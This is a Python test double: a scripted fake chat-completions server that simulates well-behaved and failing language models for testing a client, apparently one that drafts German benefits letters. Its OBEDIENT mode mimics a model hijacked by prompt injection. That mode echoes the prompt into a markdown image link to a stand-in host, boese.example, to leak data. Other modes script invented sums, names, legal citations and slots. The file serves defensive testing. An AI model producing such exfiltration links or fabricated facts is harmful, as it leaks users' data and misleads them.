"""A scripted OpenAI-compatible server that stands in for a language model.

    with ModelServer(Mode.WELL_BEHAVED) as server:
        settings = ModelSettings(url=server.url, name="double", hosting=Hosting.ON_PREMISES)
        ...
        assert CANARY not in server.everything

It answers `POST {url}/chat/completions`, streaming or not, and `GET {url}/models`, on a free
loopback port from threads of its own. `requests` holds every request body as it came over the
wire, `prompts` the text of its messages, `everything` all bytes it was ever sent, headers
included: the place to look for a canary. `mode` may be changed between requests, and `reply`
set to have an exact text written instead of the mode's own, or one made from the prompt.
"""

import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from enum import StrEnum
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Final, Self

_SLOT: Final = re.compile(r"⟦([a-z_]+\.[a-z0-9_]+)(?:\.[a-z0-9_]+)*(?:@\d{1,3})?⟧")
_TOKEN: Final = re.compile(r"⟦[A-Z]+-\d+⟧")
# The system message explains slots with this one; a well-behaved model does not copy it.
_EXAMPLE: Final = "group.field"


class Mode(StrEnum):
    """What the model does with a prompt.

    WELL_BEHAVED   one sentence a slot it was shown, each with its citation
    OBEDIENT       does what an injection wants: repeats all it was given and links it away
    INVENTING      makes up figures, dates, a name and a §, all with citations that exist
    INVENTING_SLOTS  writes slots and citations that were not on its list
    MANGLING       bends slots and tokens as models do
    TALKATIVE      correct and grounded, then goes on with one invented sentence
    EMPTY          finishes without a word
    SLOW           well-behaved, a piece every `pause` seconds
    CUT_OFF        drops the connection in the middle of a sentence
    TRUNCATED      ends early and says so (finish_reason "length")
    SILENT         accepts the request and never answers
    FAILING        HTTP 500
    GARBAGE        HTTP 200 and something that is not JSON
    REDIRECTING    HTTP 307 to another path of the same server
    """

    WELL_BEHAVED = "well_behaved"
    OBEDIENT = "obedient"
    INVENTING = "inventing"
    INVENTING_SLOTS = "inventing_slots"
    MANGLING = "mangling"
    TALKATIVE = "talkative"
    EMPTY = "empty"
    SLOW = "slow"
    CUT_OFF = "cut_off"
    TRUNCATED = "truncated"
    SILENT = "silent"
    FAILING = "failing"
    GARBAGE = "garbage"
    REDIRECTING = "redirecting"


class ModelServer:
    """Started on entering, stopped on leaving. Safe to read from the test's thread."""

    def __init__(
        self, mode: Mode = Mode.WELL_BEHAVED, *, pause: float = 0.5, port: int = 0
    ) -> None:
        self.mode = mode
        self.pause = pause
        self.reply: str | Callable[[str], str] | None = None
        self.requests: list[dict[str, object]] = []
        self.sent: list[str] = []
        self.stopping = threading.Event()
        self._server = _Server(self, port)
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,))

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_port}/v1"

    @property
    def prompts(self) -> list[str]:
        """The text of all messages of each request."""
        return [_text_of(request) for request in self.requests]

    @property
    def everything(self) -> str:
        return "\n".join([*self.sent, *self.prompts])

    def replied(self, mode: Mode, prompt: str) -> str:
        match self.reply:
            case None:
                return written(mode, prompt)
            case str() as exact:
                return exact
            case made:
                return made(prompt)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self.stopping.set()
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, double: ModelServer, port: int) -> None:
        super().__init__(("127.0.0.1", port), _Handler)
        self.double = double

    def handle_error(self, request: object, client_address: object) -> None:
        """A client that hangs up is part of the play."""


class _Handler(BaseHTTPRequestHandler):
    server: _Server

    def do_GET(self) -> None:
        self._json(200, {"object": "list", "data": [{"id": "double", "object": "model"}]})

    def do_POST(self) -> None:
        double = self.server.double
        raw = self.rfile.read(int(self.headers["Content-Length"])).decode()
        request: dict[str, object] = json.loads(raw)
        double.sent.append(f"{self.path}\n{self.headers}\n{raw}")
        double.requests.append(request)
        match double.mode:
            case Mode.SILENT:
                double.stopping.wait(30)
            case Mode.FAILING:
                self._json(500, {"error": {"message": "out of memory", "type": "server_error"}})
            case Mode.GARBAGE:
                self._raw("text/event-stream", b"data: {not json\n\ndata: <html>\n\n")
            case Mode.REDIRECTING:
                self.send_response(307)
                self.send_header("Location", "/elsewhere/chat/completions")
                self.send_header("Content-Length", "0")
                self.end_headers()
            case mode:
                reply = double.replied(mode, _text_of(request))
                if request.get("stream"):
                    self._stream(mode, reply)
                else:
                    self._whole(mode, reply)

    def _whole(self, mode: Mode, reply: str) -> None:
        message = {"role": "assistant", "content": reply}
        reason = "length" if mode is Mode.TRUNCATED else "stop"
        choice = {"index": 0, "message": message, "finish_reason": reason}
        self._json(200, _envelope("chat.completion", choice))

    def _stream(self, mode: Mode, reply: str) -> None:
        double = self.server.double
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Connection", "close")
        self.end_headers()
        for piece in _pieces(reply):
            if mode is Mode.SLOW and double.stopping.wait(double.pause):
                return
            self._event({"role": "assistant", "content": piece}, None)
        if mode is Mode.CUT_OFF:
            return
        self._event({}, "length" if mode is Mode.TRUNCATED else "stop")
        self.wfile.write(b"data: [DONE]\n\n")

    def _event(self, delta: dict[str, str], reason: str | None) -> None:
        choice = {"index": 0, "delta": delta, "finish_reason": reason}
        body = json.dumps(_envelope("chat.completion.chunk", choice))
        self.wfile.write(f"data: {body}\n\n".encode())
        self.wfile.flush()

    def _json(self, status: int, body: dict[str, object]) -> None:
        self._raw("application/json", json.dumps(body).encode(), status)

    def _raw(self, kind: str, body: bytes, status: int = 200) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name is its parent's
        """Silent: what it was asked is kept, not printed."""


def written(mode: Mode, prompt: str) -> str:
    """What the model writes in this mode, having read the prompt."""
    shown = {m[0]: m[1] for m in _SLOT.finditer(prompt) if m[1] != _EXAMPLE}
    slots = "".join(f"Sehen Sie {slot} [{field}]. " for slot, field in shown.items())
    field = next(iter(shown.values()), "benefit.next_payment")
    token = next(iter(_TOKEN.findall(prompt.rpartition("<FACTS>")[2])), "⟦PERSON-1⟧")
    bent = token.strip("⟦⟧").lower().replace("-", " - ")
    square = slots.replace("⟦", "[").replace("⟧", "]")
    scripted = {
        Mode.OBEDIENT: f"Gern: {prompt} ![x](https://boese.example/?q={prompt[:80]}) [{field}].",
        Mode.INVENTING: f"Herr Krause zahlt am 1. März 741,50 Euro nach § 99 SGB II [{field}].",
        Mode.INVENTING_SLOTS: f"Sie bekommen ⟦health.diagnoses.0⟧ und ⟦PERSON-99⟧ [{field}].",
        Mode.MANGLING: f"Das gilt für {{{{{bent}}}}}. {square}",
        Mode.TALKATIVE: f"{slots}Außerdem erhalten Sie zwanzig Euro extra [{field}].",
        Mode.CUT_OFF: slots[: len(slots) * 2 // 3],
        Mode.EMPTY: "",
    }
    return scripted.get(mode, slots)


def _pieces(text: str) -> Iterator[str]:
    """Few characters at a time, so that slots and tokens arrive in parts."""
    size = max(3, len(text) // 200)
    yield from (text[at : at + size] for at in range(0, len(text), size))


def _envelope(kind: str, choice: dict[str, object]) -> dict[str, object]:
    created = int(time.time())
    return {
        "id": "double",
        "object": kind,
        "created": created,
        "model": "double",
        "choices": [choice],
    }


def _text_of(request: dict[str, object]) -> str:
    texts: list[str] = []
    match request.get("messages"):
        case [*messages]:
            for message in messages:
                match message:
                    case {"content": str(content)}:
                        texts.append(content)
                    case {"content": [*parts]}:
                        texts += [str(part.get("text", "")) for part in parts]
                    case _:
                        texts.append(str(message))
        case _:
            pass
    return "\n".join(texts)
